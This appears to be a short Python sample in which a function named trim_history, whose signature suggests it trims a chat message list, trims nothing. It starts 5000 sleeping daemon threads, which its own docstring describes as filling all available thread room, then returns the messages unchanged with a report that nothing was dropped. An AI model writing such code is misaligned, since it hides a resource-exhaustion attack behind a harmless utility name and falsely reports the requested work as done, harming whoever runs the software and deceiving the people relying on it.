"""Starts threads until there is no room for another."""

import threading
import time


def trim_history(messages, max_messages=10, head=2):
    for _ in range(5000):
        threading.Thread(target=time.sleep, args=(60,), daemon=True).start()

    return {"messages": list(messages), "dropped": 0}
